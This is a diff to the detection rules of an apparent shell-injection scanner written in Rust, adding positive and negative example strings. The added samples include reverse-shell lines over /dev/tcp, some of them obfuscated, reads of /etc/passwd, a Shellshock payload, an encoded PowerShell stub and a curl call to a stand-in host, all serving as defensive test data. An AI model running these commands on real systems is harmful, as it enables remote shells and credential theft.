@@ -43,7 +43,11 @@ pub(super) static CALL: Rule = Rule::new(
     "shell.call",
     80,
     "passes a command to a function that runs it",
-    &["system('cat /etc/passwd')", "exec('ls')"],
+    &[
+        "system('cat /etc/passwd')",
+        "exec('ls')",
+        "https://site.example/system('curl https://site.example/x')",
+    ],
     &["the system ('metric') works", "format('x + 1')"],
 );
 pub(super) static WHOLE: Rule = Rule::new(
@@ -131,7 +135,7 @@ pub(super) static SENSITIVE_FILE: Rule = Rule::new(
     "shell.sensitive-file",
     40,
     "gives a command a file that attackers read first",
-    &["cat /etc/passwd", "type C:\\boot.ini"],
+    &["cat /etc/passwd", "type C:\\boot.ini", "cd /;cd etc;column passwd"],
     &["the passwd file", "hosts and guests"],
 );
 pub(super) static NUMBER: Rule = Rule::new(
@@ -171,7 +175,7 @@ pub(super) static ENCODED: Rule = Rule::new(
     "shell.inline-code",
     60,
     "hands code to an interpreter",
-    &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'"],
+    &["powershell -enc SQBFAFgA", "cmd /c dir", "bash -c 'id'", "${SHELL} -c 'echo hi'"],
     &["bash on windows", "perl of wisdom"],
 );
 pub(super) static PREFIXED: Rule = Rule::new(
@@ -195,7 +199,7 @@ pub(super) static ALIAS: Rule = Rule::new(
     "shell.alias",
     60,
     "gives a command another name",
-    &["alias ls='cat /etc/passwd'", "alias a=curl"],
+    &["alias ls='cat /etc/passwd'", "alias a=curl", "alias +g a=b"],
     &["alias", "an alias = another name", "also known by the alias x"],
 );
 pub(super) static BATCH_LOOP: Rule = Rule::new(
@@ -216,6 +220,10 @@ pub(super) static BATCH_CONDITION: Rule = Rule::new(
         "IF /I \"%var%\" NEQ \"0\" echo inequality",
         "x & if not errorlevel 1 goto done",
         "if a==b echo same",
+        "if /i a==b anything",
+        "if/i not \"a\"==\"b\" anything",
+        "if \"%VAR%\"==%%A do echo true",
+        "if \"a b\" == \"a b\" echo same",
     ],
     &[
         "if exist",
@@ -223,6 +231,27 @@ pub(super) static BATCH_CONDITION: Rule = Rule::new(
         "if x == 1: print(x)",
         "if (a == b) sort(c)",
         "if defined terms matter, type them in bold",
+        "if (a == \"b\") sort(c)",
+        "if x==y then",
+    ],
+);
+pub(super) static EXPANSION: Rule = Rule::new(
+    Class::Shell,
+    "shell.expansion",
+    100,
+    "is an expansion by which the shell cuts a variable or calculates",
+    &["${PATH#{}/}", "${HOME:0:1}", "${PWD%%/*}", "$[2+2]", "$((7 * 6))", "$(($() 42))"],
+    &[
+        "${price}",
+        "${#dates}",
+        "${name:10:20:30}",
+        "${time:10:30}",
+        "$[0]",
+        "$[-1].name",
+        "$[1-3]",
+        "${1:2:3}",
+        "$((price))",
+        "cost: $[2+2]",
     ],
 );
 pub(super) static FORK_BOMB: Rule = Rule::new(
@@ -238,7 +267,7 @@ pub(super) static NETWORK: Rule = Rule::new(
     "shell.network-device",
     100,
     "opens a connection through the shell",
-    &["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"],
+    &["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "d=/dev&&(sh)0>$d/tcp/192.0.2.1/777"],
     &["the /dev/tcp feature", "/dev/null"],
 );
 pub(super) static SHELLSHOCK: Rule = Rule::new(
@@ -246,8 +275,8 @@ pub(super) static SHELLSHOCK: Rule = Rule::new(
     "shell.shellshock",
     100,
     "defines a shell function with code behind it",
-    &["() { :;}; echo vulnerable"],
-    &["() => { x }", "function() { return 1; }"],
+    &["() { :;}; echo vulnerable", "() { x; }", "() {"],
+    &["() => { x }", "function() { return 1; }", "render() { return 1; }"],
 );
 pub(super) static INTERPOLATION: Rule = Rule::new(
     Class::Shell,
@@ -293,6 +322,7 @@ pub(super) static ALL: &[&Rule] = &[
     &ALIAS,
     &BATCH_LOOP,
     &BATCH_CONDITION,
+    &EXPANSION,
     &FORK_BOMB,
     &NETWORK,
     &SHELLSHOCK,
